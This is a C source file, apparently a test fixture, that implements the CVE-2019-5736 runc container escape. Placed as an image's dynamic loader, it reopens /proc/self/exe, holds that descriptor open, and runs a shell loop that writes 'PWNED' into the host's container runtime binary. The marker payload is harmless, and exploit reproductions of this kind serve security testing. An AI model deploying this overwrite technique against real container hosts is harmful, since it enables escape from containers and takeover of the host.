/* SPDX-License-Identifier: Apache-2.0 */
/* What an attacker puts where the dynamic loader of an image is. A dynamic program that is run in
 * there begins here, with its file at /proc/self/exe: this keeps that open, and becomes a shell
 * that writes to it, which the kernel allows once nobody runs it (CVE-2019-5736). */
#include <fcntl.h>
#include <sys/syscall.h>

#define AS_TEXT(number) #number
#define TEXT(number) AS_TEXT(number)
#define KEPT 9

static long call(long number, long a, long b, long c)
{
#if defined(__x86_64__)
    long result;
    __asm__ volatile("syscall"
                     : "=a"(result)
                     : "a"(number), "D"(a), "S"(b), "d"(c)
                     : "rcx", "r11", "memory");
    return result;
#elif defined(__aarch64__)
    register long x8 __asm__("x8") = number;
    register long x0 __asm__("x0") = a;
    register long x1 __asm__("x1") = b;
    register long x2 __asm__("x2") = c;
    register long x3 __asm__("x3") = 0;
    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
    return x0;
#endif
}

void _start(void);

void _start(void)
{
    static const char *const words[] = {
        "sh",
        "-c",
        "n=0; while [ $n -lt 200 ]; do n=$((n + 1)); "
        "{ echo PWNED >> /proc/self/fd/" TEXT(KEPT) "; } 2>/dev/null && exit 7; done",
        0,
    };
    static const char *const environment[] = {"PATH=/bin", 0};
    const long fd = call(SYS_openat, AT_FDCWD, (long)"/proc/self/exe", O_RDONLY);
    call(SYS_dup3, fd, KEPT, 0);
    call(SYS_execve, (long)"/bin/sh", (long)words, (long)environment);
    call(SYS_exit, 1, 0, 0);
    for (;;)
        ;
}
